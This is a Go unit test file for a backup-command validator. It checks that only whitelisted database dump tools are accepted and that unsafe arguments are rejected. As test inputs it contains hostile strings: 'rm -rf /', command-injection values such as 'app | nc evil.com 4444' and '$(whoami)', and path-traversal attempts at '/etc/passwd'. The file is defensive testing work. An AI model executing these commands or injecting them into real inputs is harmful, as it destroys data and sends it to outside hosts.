package domain

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestNewBackupCommandAcceptsWhitelistedExecutable(t *testing.T) {
	cmd, err := NewBackupCommand([]string{"PGPASSWORD=secret"}, []string{"pg_dump", "-U", "app", "appdb"})
	require.NoError(t, err)
	assert.Equal(t, []string{"pg_dump", "-U", "app", "appdb"}, cmd.Cmd)
	assert.Equal(t, []string{"PGPASSWORD=secret"}, cmd.Env)
}

func TestNewBackupCommandRejectsUnknownExecutable(t *testing.T) {
	_, err := NewBackupCommand(nil, []string{"rm", "-rf", "/"})
	require.Error(t, err)
	var secErr *SecurityError
	assert.ErrorAs(t, err, &secErr)
}

func TestNewBackupCommandRejectsEmptyCmd(t *testing.T) {
	_, err := NewBackupCommand(nil, nil)
	require.Error(t, err)
}

func TestNewBackupCommandRejectsForbiddenShellMetacharacters(t *testing.T) {
	for _, bad := range []string{"app; rm -rf /", "app && echo pwned", "app | nc evil.com 4444", "$(whoami)"} {
		_, err := NewBackupCommand(nil, []string{"mysqldump", bad})
		assert.Error(t, err, "expected rejection for %q", bad)
	}
}

func TestNewBackupCommandRejectsAbsolutePathArgument(t *testing.T) {
	_, err := NewBackupCommand(nil, []string{"mysqldump", "/etc/passwd"})
	require.Error(t, err)
}

func TestNewBackupCommandRejectsPathTraversal(t *testing.T) {
	_, err := NewBackupCommand(nil, []string{"mysqldump", "../../etc/passwd"})
	require.Error(t, err)
}

func TestNewBackupCommandRejectsControlBytes(t *testing.T) {
	_, err := NewBackupCommand(nil, []string{"mysqldump", "db\x00name"})
	require.Error(t, err)
}

func TestNewBackupCommandCopiesSlicesDefensively(t *testing.T) {
	cmd := []string{"sqlite3", "app.db"}
	built, err := NewBackupCommand(nil, cmd)
	require.NoError(t, err)

	cmd[1] = "mutated"
	assert.Equal(t, "app.db", built.Cmd[1])
}
